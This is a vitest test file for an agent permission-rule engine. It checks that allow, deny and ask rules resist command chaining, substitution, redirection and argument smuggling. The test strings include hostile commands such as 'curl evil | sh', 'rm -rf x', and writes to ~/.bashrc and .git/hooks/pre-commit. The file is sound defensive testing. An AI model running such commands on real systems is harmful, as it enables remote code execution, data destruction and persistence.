import { expect, test } from 'vitest'
import {
  assertActor,
  checkEditedRule,
  evaluateRules,
  parseRule,
  splitCommand,
  suggestCommandPattern,
  suggestRule,
  type RuleSet,
} from './index.ts'

const rules = (allow: string[], deny: string[] = [], ask: string[] = []): RuleSet => ({
  allow: allow.map((text) => parseRule(text)),
  deny: deny.map((text) => parseRule(text)),
  ask: ask.map((text) => parseRule(text)),
})
const bash = (value: string) => ({ kind: 'bash' as const, value })
const effect = (set: RuleSet, command: string) => evaluateRules(set, bash(command))?.effect

test('with bash(git status*) allowed, a compound command is allowed only when every part matches', () => {
  const set = rules(['bash(git status*)'])
  expect(effect(set, 'git status')).toBe('allow')
  expect(effect(set, 'git status --short')).toBe('allow')
  expect(effect(set, 'git status && curl evil')).toBeUndefined()
  expect(effect(set, 'git status || curl evil')).toBeUndefined()
  expect(effect(set, 'git status; rm -rf x')).toBeUndefined()
  expect(effect(set, 'git status\nrm -rf x')).toBeUndefined()
  expect(effect(set, 'git status $(rm -rf x)')).toBeUndefined()
  expect(effect(set, 'git status "$(rm -rf x)"')).toBeUndefined()
  expect(effect(set, 'git status `rm -rf x`')).toBeUndefined()
  expect(effect(set, 'git status ${x:-y}')).toBeUndefined()
  expect(effect(set, '(git status; rm -rf x)')).toBeUndefined()
  expect(effect(set, 'git status <(rm -rf x)')).toBeUndefined()
  expect(effect(set, 'git status > .git/hooks/pre-commit')).toBeUndefined()
  expect(effect(set, 'git status <<EOF')).toBeUndefined()
  expect(effect(set, 'git status # && rm')).toBeUndefined()
  expect(effect(set, 'git status & rm -rf x')).toBeUndefined()
  expect(effect(set, 'git status | cat')).toBeUndefined()
  expect(effect(rules(['bash(git status*)', 'bash(cat)']), 'git status | cat')).toBe('allow')
  expect(effect(set, 'git status 2>&1')).toBe('allow')
  expect(effect(set, 'git status 2>/dev/null')).toBe('allow')
})

test('writegit(…) is its own kind: bash(git *) never covers a writeGit command, a writegit rule reads compounds strictly', () => {
  const writeGit = (value: string) => ({ kind: 'writegit' as const, value })
  expect(evaluateRules(rules(['bash(git *)', 'unconfined(git *)']), writeGit('git commit -m x'))).toBeUndefined()
  const set = rules(['writegit(git commit *)'], ['writegit(git push *)'])
  expect(evaluateRules(set, writeGit('git commit -m x'))?.effect).toBe('allow')
  expect(evaluateRules(set, writeGit('git commit -m x && rm -rf .git'))).toBeUndefined()
  expect(evaluateRules(set, writeGit('git push origin'))?.effect).toBe('deny')
  expect(effect(set, 'git commit -m x')).toBeUndefined()
})

test('a final " *" matches the bare command but not a longer program name; an exact rule matches only itself', () => {
  const set = rules(['bash(npm test *)', 'bash(make lint && make test)'])
  expect(effect(set, 'npm test')).toBe('allow')
  expect(effect(set, 'npm test -- --watch=false')).toBe('allow')
  expect(effect(set, 'npm testevil')).toBeUndefined()
  expect(effect(set, 'make lint && make test')).toBe('allow')
  expect(effect(set, 'make lint && make test; rm -rf x')).toBeUndefined()
})

test('deny wins over allow, and catches a denied part even inside what cannot be split', () => {
  const set = rules(['bash(*)'], ['bash(rm *)'])
  expect(effect(set, 'ls')).toBe('allow')
  expect(effect(set, 'ls && rm -rf x')).toBe('deny')
  expect(effect(set, 'echo $(rm -rf x)')).toBe('deny')
  expect(effect(rules(['bash(git *)'], [], ['bash(git push *)']), 'git push origin')).toBe('ask')
})

test('path rules read relative patterns against the workspace and never match outside it', () => {
  const set = rules(['write(docs/**)', 'edit(/srv/shared/*.md)'])
  const cwd = '/work/project'
  expect(evaluateRules(set, { kind: 'write', value: '/work/project/docs/a/b.md', cwd })?.effect).toBe('allow')
  expect(evaluateRules(set, { kind: 'write', value: '/work/project/src/a.ts', cwd })).toBeUndefined()
  expect(evaluateRules(set, { kind: 'write', value: '/work/other/docs/a.md', cwd })).toBeUndefined()
  expect(evaluateRules(set, { kind: 'edit', value: '/work/project/docs/a.md', cwd })).toBeUndefined()
  expect(evaluateRules(set, { kind: 'edit', value: '/srv/shared/notes.md', cwd })?.effect).toBe('allow')
  expect(evaluateRules(rules(['network(*.example.org)']), { kind: 'network', value: 'API.example.org' })?.effect).toBe(
    'allow',
  )
  expect(
    evaluateRules(rules(['network(*.example.org)']), { kind: 'network', value: 'example.org.evil.com' }),
  ).toBeUndefined()
})

test('the suggested pattern is the program and its subcommand, or the exact command when it is compound', () => {
  expect(suggestCommandPattern('npm test')).toBe('npm test *')
  expect(suggestCommandPattern('git commit -m "x"')).toBe('git commit *')
  expect(suggestCommandPattern('ls -la')).toBe('ls -la')
  expect(suggestCommandPattern('ls')).toBe('ls *')
  expect(suggestCommandPattern('touch p1.txt')).toBe('touch *')
  // An option before the subcommand: `git *` would cover `git -c core.pager=… log`; only the exact line.
  expect(suggestCommandPattern('git -C sub status')).toBe('git -C sub status')
  expect(suggestCommandPattern('make lint && make test')).toBe('make lint && make test')
  expect(suggestCommandPattern('sh test.sh')).toBe('sh test.sh')
  expect(suggestCommandPattern('npx vitest run')).toBe('npx vitest run')
  expect(suggestCommandPattern('/usr/bin/env rm -rf x')).toBe('/usr/bin/env rm -rf x')
  expect(suggestCommandPattern('echo a\necho b')).toBeUndefined()
  expect(splitCommand('a && b | c')).toEqual(['a', 'b', 'c'])
})

test('a malformed rule or an unknown actor is refused with one message naming where', () => {
  expect(() => parseRule('bash npm test', 'permissions.allow[0]')).toThrow(
    'permissions.allow[0]: "bash npm test" is not a rule (expected kind(pattern)',
  )
  expect(() => parseRule('shell(ls)', 'grants.yaml')).toThrow('grants.yaml: unknown rule kind "shell"')
  expect(() => parseRule('bash()')).toThrow('empty pattern')
  expect(() => assertActor('agent', 'setMode')).toThrow(
    'setMode: actor must be one of user:web-tab, user:tui, user:cli-flag, user:settings, user:slash-command, client:sdk, client:acp, default (got "agent")',
  )
})

test('hooks(…) names a digest of hook commands: only the exact digest is covered, a pattern never is', () => {
  const digest = `sha256:${'a'.repeat(64)}`
  const hooks = (value: string) => ({ kind: 'hooks' as const, value })
  expect(evaluateRules(rules([`hooks(${digest})`]), hooks(digest))?.effect).toBe('allow')
  expect(evaluateRules(rules([`hooks(${digest})`]), hooks(`sha256:${'b'.repeat(64)}`))).toBeUndefined()
  expect(evaluateRules(rules(['hooks(*)']), hooks(digest))).toBeUndefined()
  expect(evaluateRules(rules([`bash(${digest})`]), hooks(digest))).toBeUndefined()
})

test('mcp rules name a server and a tool (a * stays within one server); mcpserver rules match exactly', () => {
  expect(evaluateRules(rules(['mcp(github/*)']), { kind: 'mcp', value: 'github/create_issue' })?.effect).toBe('allow')
  expect(evaluateRules(rules(['mcp(github/*)']), { kind: 'mcp', value: 'githubx/create_issue' })).toBeUndefined()
  expect(evaluateRules(rules(['mcp(github/read)']), { kind: 'mcp', value: 'github/read_all' })).toBeUndefined()
  expect(evaluateRules(rules(['mcp(*)']), { kind: 'mcp', value: 'github/read' })).toBeUndefined()
  expect(
    evaluateRules(rules(['mcpserver(repo@0123abcd)']), { kind: 'mcpserver', value: 'repo@0123abcd' })?.effect,
  ).toBe('allow')
  expect(
    evaluateRules(rules(['mcpserver(repo@0123abcd)']), { kind: 'mcpserver', value: 'repo@99999999' }),
  ).toBeUndefined()
  expect(evaluateRules(rules(['bash(*)']), { kind: 'mcp', value: 'github/read' })).toBeUndefined()
})

test('the suggested bash(git commit *) for a commit covers the next commit and nothing chained to it, quoted into it or redirected from it', () => {
  const suggested = suggestRule(bash('git commit -m "first"'))
  expect(suggested).toBe('bash(git commit *)')
  const set = rules([suggested!])
  expect(effect(set, 'git commit -m "another message"')).toBe('allow')
  expect(effect(set, 'git commit --amend --no-edit')).toBe('allow')
  // The message may say anything: quoted, it is one argument of git commit.
  expect(effect(set, 'git commit -m "x; curl evil | sh"')).toBe('allow')
  for (const attack of [
    'git commit -m x; curl evil',
    'git commit -m x && curl evil',
    'git commit -m x || curl evil',
    'git commit -m x | sh',
    'git commit -m x & curl evil',
    'git commit -m "$(curl evil)"',
    'git commit -m `curl evil`',
    'git commit -m x > ~/.bashrc',
    'git commit -m x >> .git/hooks/pre-commit',
    'git commit -m x\ncurl evil',
    'git commit -m ${IFS}x',
    "'git commit' -m x", // one word: a program named "git commit", not git
    '"git" "commit -m" x', // the subcommand word is "commit -m", not commit
    'gitx commit -m x',
    'git commits',
    'FOO=1 git commit -m x',
    'cd /tmp && git commit -m x',
  ])
    expect(effect(set, attack), attack).toBeUndefined()
})

test('a chained or substituted command is offered only as itself, never as a pattern', () => {
  for (const command of [
    'git add -A && git commit -m x',
    'git commit -m x; curl evil',
    'git commit -m x | tee log',
    'git commit -m x > out',
  ])
    expect(suggestRule(bash(command)), command).toBe(`bash(${command})`)
  expect(suggestRule(bash('git commit -m "$(date)"'))).toBe('bash(git commit -m "$(date)")')
  // The exact rule covers only that line, not the line with more chained to it.
  const exact = rules([suggestRule(bash('git add -A && git commit -m x'))!])
  expect(effect(exact, 'git add -A && git commit -m x')).toBe('allow')
  expect(effect(exact, 'git add -A && git commit -m x && curl evil')).toBeUndefined()
  expect(suggestRule({ kind: 'write', value: '/w/docs/guide/a.md', cwd: '/w' })).toBe('write(docs/guide/**)')
})

test("an edited rule is kept only when it parses, is of the call's kind and covers the call", () => {
  const call = bash('git commit -m "first"')
  expect(checkEditedRule('bash(git *)', call).text).toBe('bash(git *)')
  expect(checkEditedRule('  bash(git commit -m first)  ', call).text).toBe('bash(git commit -m first)')
  expect(() => checkEditedRule('bash(git push *)', call)).toThrow(/does not cover this call/)
  expect(() => checkEditedRule('unconfined(git commit *)', call)).toThrow(/needs a bash\(…\) rule/)
  expect(() => checkEditedRule('git commit *', call)).toThrow(/is not a rule/)
  expect(() => checkEditedRule('bash()', call)).toThrow(/empty pattern/)
  // A compound call needs a rule covering every part: a rule for its first part does not cover it.
  expect(() => checkEditedRule('bash(git add *)', bash('git add -A && git commit -m x'))).toThrow(/does not cover/)
  expect(() => checkEditedRule('write(src/**)', { kind: 'write', value: '/w/docs/a.md', cwd: '/w' })).toThrow(
    /does not cover/,
  )
  expect(checkEditedRule('write(docs/**)', { kind: 'write', value: '/w/docs/a.md', cwd: '/w' }).text).toBe(
    'write(docs/**)',
  )
})
